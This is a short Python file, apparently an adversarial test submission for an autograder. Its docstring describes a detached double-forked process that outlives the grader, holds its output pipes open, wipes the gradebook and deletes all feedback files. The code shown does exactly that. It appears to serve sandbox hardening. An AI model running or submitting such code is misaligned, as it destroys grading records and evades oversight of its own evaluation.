"""A detached process (double fork, new session) that outlives the grader: it holds the
grader's stdout/stderr pipes open for two minutes (made a `--timeout 30` run take 95 s), and
after a few seconds rewrites the gradebook and deletes the feedback files (the damage stayed:
a rerun without --force skipped everyone)."""
# %%
import json
import os
import time

targets = json.load(open("targets.json"))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (1, 2):
            try:
                os.dup2(2, fd)
            except OSError:
                pass
        time.sleep(3)
        for _ in range(40):
            try:
                with open(targets["gradebook"], "w") as f:
                    f.write("submission,sha256,assignment,status,total,max_total\n")
                for name in os.listdir(targets["feedback"]):
                    os.remove(os.path.join(targets["feedback"], name))
            except OSError:
                pass
            time.sleep(3)
        os._exit(0)
    os._exit(0)
time.sleep(0.5)
